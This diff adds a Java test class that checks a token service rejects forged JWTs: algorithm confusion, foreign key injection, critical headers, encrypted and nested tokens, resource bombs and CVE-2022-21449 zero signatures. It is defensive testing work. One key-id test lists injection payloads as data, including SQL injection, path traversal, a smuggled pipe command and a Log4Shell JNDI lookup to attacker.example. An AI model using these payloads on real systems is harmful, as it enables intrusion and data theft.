@@ -1,0 +1,328 @@
+package io.latchkey.security;
+
+import static io.latchkey.security.TokenCalls.refused;
+import static io.latchkey.security.TokenCalls.taken;
+import static io.restassured.RestAssured.given;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+
+import io.latchkey.dev.DevelopmentToken;
+import io.latchkey.testing.Calls;
+import io.latchkey.testing.Certificates;
+import io.latchkey.testing.KeyServer;
+import io.latchkey.testing.LatchkeyStores;
+import io.latchkey.testing.RawToken;
+import io.latchkey.testing.Tokens;
+import io.quarkus.test.junit.QuarkusTest;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.security.KeyStore;
+import java.security.MessageDigest;
+import java.security.PrivateKey;
+import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import javax.crypto.spec.SecretKeySpec;
+import org.jose4j.jwe.JsonWebEncryption;
+import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
+import org.jose4j.jwk.PublicJsonWebKey;
+import org.jose4j.jwk.RsaJwkGenerator;
+import org.jose4j.jws.EcdsaUsingShaAlgorithm;
+import org.jose4j.lang.JoseException;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * What an attacker makes of a token without the issuer's keys, or makes an issuer sign: its header, its signature, its
+ * parts. One thing about a good token is changed at a time.
+ */
+@QuarkusTest
+class ForgedTokensTest {
+
+    private static final PublicJsonWebKey FOREIGN = foreignKey();
+
+    /** As much as fits into the header of a request beside everything else. */
+    private static final int DEEP = 9_000;
+
+    @TempDir
+    static Path directory;
+
+    @Test
+    void goodParts_areTaken() {
+        taken(RawToken.of(good()).sign());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"HS256", "HS384", "HS512"})
+    void publicKey_asAnySecret_isRefused(String algorithm) {
+        byte[] secret = key("RSA").getPublicKey().getEncoded();
+        refused(good().header("alg", algorithm).signedWith(new SecretKeySpec(secret, "HmacSHA256")));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"rs256", "RS256 ", "", "RS256,none", "\u0000", "ES256K", "RSA1_5", "dir"})
+    void algorithmThatIsNone_isRefused(String algorithm) {
+        refused(changed("\"RS256\"", quoted(algorithm)).sign());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"null", "1", "[\"RS256\"]", "{\"RS256\":1}", "true"})
+    void headersOfAnotherType_areRefused(String value) {
+        refused(changed("\"RS256\"", value).sign());
+        refused(changed("\"dev1\"", value).sign());
+        refused(changed("\"at+jwt\"", value).sign());
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "' OR '1'='1",
+                "dev1'; DROP TABLE users; --",
+                "../../../../dev/null",
+                "..\\..\\dev1",
+                "/proc/self/environ",
+                "dev1\u0000",
+                "dev1\n",
+                " dev1",
+                "DEV1",
+                "dev1;dev2",
+                "|/usr/bin/touch latchkey",
+                "${jndi:ldap://attacker.example/a}",
+                "*"
+            })
+    void keyIdThatIsMoreThanAName_isRefused(String kid) {
+        refused(changed("\"dev1\"", quoted(kid)).sign());
+    }
+
+    /** Neither the key nor the address is trusted, and the address is not even asked. */
+    @ParameterizedTest
+    @ValueSource(strings = {"jku", "x5u"})
+    void keysElsewhere_areNotFetched(String header) {
+        try (KeyServer attacker = KeyServer.start()) {
+            attacker.publish(FOREIGN);
+            for (String kid : List.of("dev1", FOREIGN.getKeyId())) {
+                refused(good().signedWith(FOREIGN.getPrivateKey())
+                        .header("kid", kid)
+                        .header(header, attacker.address()));
+            }
+            assertEquals(0, attacker.requests());
+        }
+    }
+
+    @Test
+    void keyBroughtAlong_underItsOwnName_isRefused() {
+        Map<String, Object> jwk = FOREIGN.toParams(OutputControlLevel.PUBLIC_ONLY);
+        refused(good().signedWith(FOREIGN.getPrivateKey())
+                .header("kid", FOREIGN.getKeyId())
+                .header("jwk", jwk));
+    }
+
+    @Test
+    void certificateBroughtAlong_isNotTrusted() throws Exception {
+        KeyStore store = Certificates.selfSigned(directory, "issuer.example");
+        PrivateKey key = (PrivateKey) store.getKey(Certificates.ALIAS, Certificates.PASSWORD);
+        byte[] certificate = store.getCertificate(Certificates.ALIAS).getEncoded();
+        List<String> chain = List.of(Base64.getEncoder().encodeToString(certificate));
+        String thumbprint = Base64.getUrlEncoder()
+                .withoutPadding()
+                .encodeToString(MessageDigest.getInstance("SHA-256").digest(certificate));
+        refused(good().signedWith(key).header("x5c", chain));
+        refused(good().signedWith(key).header("x5c", chain).header("kid", null));
+        refused(good().signedWith(key).header("x5t#S256", thumbprint));
+    }
+
+    /** Whoever signs may mean well; the service understands no extension, and RFC 7515 §4.1.11 has it say so. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "[\"exp\"]        | \"exp\":1",
+                "[\"b64\"]        | \"b64\":true",
+                "[]               | \"b64\":true",
+                "\"exp\"          | \"exp\":1",
+                "[\"alg\"]        | \"x\":1",
+                "[\"nothing\"]    | \"x\":1"
+            })
+    void criticalHeaders_areRefused(String names, String extension) {
+        refused(extended("\"crit\":" + names + "," + extension).sign());
+    }
+
+    /** RFC 7797 §7: a JWT is always encoded. */
+    @Test
+    void payloadThatIsNotEncoded_isRefused() {
+        RawToken plain = extended("\"crit\":[\"b64\"],\"b64\":false").payload(payload -> payload.replace(".", "_"));
+        refused(plain.signPlain());
+        refused(plain.sign());
+        refused(extended("\"b64\":false").sign());
+    }
+
+    @Test
+    void sameHeaderTwice_isRefused() {
+        refused(extended("\"alg\":\"RS256\"").sign());
+        refused(extended("\"kid\":\"dev1\"").sign());
+        refused(extended("\"typ\":\"at+jwt\"").sign());
+    }
+
+    /** An access token is signed and nothing else (RFC 9068 §2.1); the inner one would escape what the outer says. */
+    @Test
+    void tokenWithinAToken_isRefused() {
+        String nested = good().sign();
+        RawToken around = extended("\"cty\":\"JWT\"").payload(payload -> nested);
+        refused(around.sign());
+        refused(around.sign(foreignPrivateKey()));
+        refused(around.header(header -> header.replace("RS256", "none")).withSignature(new byte[0]));
+        refused(extended("\"cty\":\"JWT\"")
+                .payload(payload -> RawToken.of(good()).sign(foreignPrivateKey()))
+                .sign());
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "dir, A256GCM, 32",
+        "A256KW, A256GCM, 32",
+        "A128GCMKW, A128CBC-HS256, 16",
+        "PBES2-HS256+A128KW, A128GCM, 16"
+    })
+    void encryptedToken_isRefused(String algorithm, String encryption, int keyBytes) throws JoseException {
+        JsonWebEncryption encrypted = new JsonWebEncryption();
+        encrypted.setHeader("typ", "at+jwt");
+        encrypted.setAlgorithmHeaderValue(algorithm);
+        encrypted.setEncryptionMethodHeaderParameter(encryption);
+        encrypted.setAlgorithmConstraints(org.jose4j.jwa.AlgorithmConstraints.NO_CONSTRAINTS);
+        encrypted.setKey(new SecretKeySpec(new byte[keyBytes], "AES"));
+        encrypted.setPayload(RawToken.of(good()).payload());
+        refused(encrypted.getCompactSerialization());
+    }
+
+    @Test
+    void encryptedForThePublicKeyOfTheIssuer_isRefused() throws JoseException {
+        JsonWebEncryption encrypted = new JsonWebEncryption();
+        encrypted.setHeader("typ", "at+jwt");
+        encrypted.setHeader("cty", "JWT");
+        encrypted.setKeyIdHeaderValue("dev1");
+        encrypted.setAlgorithmHeaderValue("RSA-OAEP-256");
+        encrypted.setEncryptionMethodHeaderParameter("A256GCM");
+        encrypted.setKey(key("RSA").getPublicKey());
+        encrypted.setPayload(good().sign());
+        refused(encrypted.getCompactSerialization());
+    }
+
+    /** A cost that the caller names, and a bomb: neither is begun with. */
+    @Test
+    void encryptionThatCosts_isNotBegun() {
+        String costly =
+                "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2147483647,\"p2s\":\"c2FsdHNhbHQ\"}";
+        String bomb = "{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}";
+        long begun = System.nanoTime();
+        for (String header : List.of(costly, bomb)) {
+            String encoded =
+                    Base64.getUrlEncoder().withoutPadding().encodeToString(header.getBytes(StandardCharsets.UTF_8));
+            refused(encoded + ".AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA");
+        }
+        assertEquals(0, (System.nanoTime() - begun) / 10_000_000_000L, "of ten seconds");
+    }
+
+    /** CVE-2022-21449: r and s are zero, and so is everything that is compared. */
+    @Test
+    void emptySignatureOfEs256_isRefused() {
+        RawToken token = RawToken.of(good().signedBy(key("EC"), "ES256"));
+        refused(token.withSignature(new byte[64]));
+        refused(token.withSignature(new byte[0]));
+        refused(token.withSignature(new byte[] {0x30, 0x06, 0x02, 0x01, 0, 0x02, 0x01, 0}));
+    }
+
+    @Test
+    void signatureOfEs256_inAnotherForm_isRefused() throws Exception {
+        String good = good().signedBy(key("EC"), "ES256").sign();
+        taken(good);
+        byte[] signature = Base64.getUrlDecoder().decode(good.substring(good.lastIndexOf('.') + 1));
+        refused(good.substring(0, good.lastIndexOf('.') + 1)
+                + Base64.getUrlEncoder()
+                        .withoutPadding()
+                        .encodeToString(EcdsaUsingShaAlgorithm.convertConcatenatedToDer(signature)));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"RS256", "PS256", "ES256", "EdDSA"})
+    void signatureOfZeroes_isRefused(String algorithm) {
+        refused(changed("\"RS256\"", quoted(algorithm)).withSignature(new byte[256]));
+    }
+
+    @Test
+    void partsThatAreTooManyOrTooFew_areRefused() {
+        String good = good().sign();
+        refused(good + ".");
+        refused(good + ".AAAA");
+        refused("." + good);
+        refused(good.substring(good.indexOf('.')));
+        refused(good.substring(good.indexOf('.') + 1));
+        refused("..");
+        refused(".");
+        refused("{\"payload\":\"e30\",\"signatures\":[]}");
+    }
+
+    /** Headers are read before any signature is checked. */
+    @Test
+    void headerThatIsDeep_isRefused() {
+        refused(extended("\"x\":" + "[".repeat(DEEP) + "]".repeat(DEEP / 2)).withSignature(new byte[256]));
+        refused(extended("\"x\":" + "{\"x\":".repeat(DEEP / 4)).withSignature(new byte[256]));
+    }
+
+    @Test
+    void headerThatIsNoObject_isRefused() {
+        for (String header : List.of("", "null", "[]", "\"RS256\"", "{", "{}", "\uFEFF{}", "{\"alg\":\"RS256\"}}")) {
+            refused(new RawToken(header, RawToken.of(good()).payload()).sign());
+        }
+    }
+
+    /** The HTTP server reads no more than 20 KiB of headers. */
+    @Test
+    void oversizedToken_isNotRead() {
+        taken(good().claim("padding", "x".repeat(10_000)));
+        tooLarge(good().claim("padding", "x".repeat(16_000)).sign());
+        tooLarge("x".repeat(100_000));
+        taken(good());
+    }
+
+    /** Of which the document says nothing, as no operation is reached. */
+    private static void tooLarge(String token) {
+        given().noFilters().auth().oauth2(token).get(Calls.AUDIT_EVENTS).then().statusCode(431);
+    }
+
+    private static RawToken extended(String members) {
+        return RawToken.of(good())
+                .header(header -> header.replaceFirst("}$", "," + members.replace("\\", "\\\\") + "}"));
+    }
+
+    private static RawToken changed(String from, String to) {
+        return RawToken.of(good()).header(header -> header.replace(from, to));
+    }
+
+    private static String quoted(String text) {
+        return io.vertx.core.json.Json.encode(text);
+    }
+
+    private static DevelopmentToken good() {
+        return Tokens.auditor();
+    }
+
+    private static PublicJsonWebKey key(String type) {
+        return LatchkeyStores.tokens().key(type);
+    }
+
+    private static PrivateKey foreignPrivateKey() {
+        return FOREIGN.getPrivateKey();
+    }
+
+    private static PublicJsonWebKey foreignKey() {
+        try {
+            PublicJsonWebKey key = RsaJwkGenerator.generateJwk(2048);
+            key.setKeyId("attacker");
+            return key;
+        } catch (JoseException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+}
